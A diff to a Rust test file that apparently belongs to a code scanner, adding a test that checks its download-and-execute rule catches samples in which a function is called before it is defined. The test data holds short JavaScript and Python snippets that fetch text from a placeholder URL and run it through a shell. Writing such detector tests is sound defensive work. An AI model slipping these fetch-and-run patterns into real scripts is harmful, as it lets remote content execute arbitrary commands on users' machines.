@@ -235,6 +235,28 @@ fn javascript_strings_and_flows() {
 }
 
 #[test]
+fn functions_called_before_they_are_defined_get_their_arguments() {
+    // The call comes first, the function after: each pass knows the
+    // functions the last one found.
+    caught(
+        "scripts/a.js",
+        "const https = require('https');\nfunction load() {\n  return new Promise((resolve) => {\n    https.get(FEED, (res) => {\n      let body = '';\n      res.on('data', (c) => { body += c; });\n      res.on('end', () => resolve(JSON.parse(body)));\n    });\n  });\n}\nasync function main() {\n  const feed = await load();\n  migrate(feed.step);\n}\nconst cp = require('child_process');\nfunction migrate(step) {\n  cp.spawnSync('sh', ['-c', step.run]);\n}\n",
+        Rule::DownloadExec,
+    );
+    caught(
+        "scripts/b.py",
+        "import subprocess, urllib.request\ndef main():\n    body = urllib.request.urlopen(FEED).read().decode()\n    migrate(body)\n\ndef migrate(step):\n    subprocess.run(step, shell=True)\n",
+        Rule::DownloadExec,
+    );
+    // A program whose name is not known, given `-c`, runs the value after.
+    caught(
+        "scripts/c.js",
+        "const cp = require('child_process');\nconst https = require('https');\nhttps.get(URL, (res) => {\n  let body = '';\n  res.on('data', (d) => { body += d; });\n  res.on('end', () => cp.spawnSync(process.env.SHELL || '/bin/sh', ['-c', body]));\n});\n",
+        Rule::DownloadExec,
+    );
+}
+
+#[test]
 fn javascript_look_alikes_stay_quiet() {
     quiet(
         "scripts/a.js",
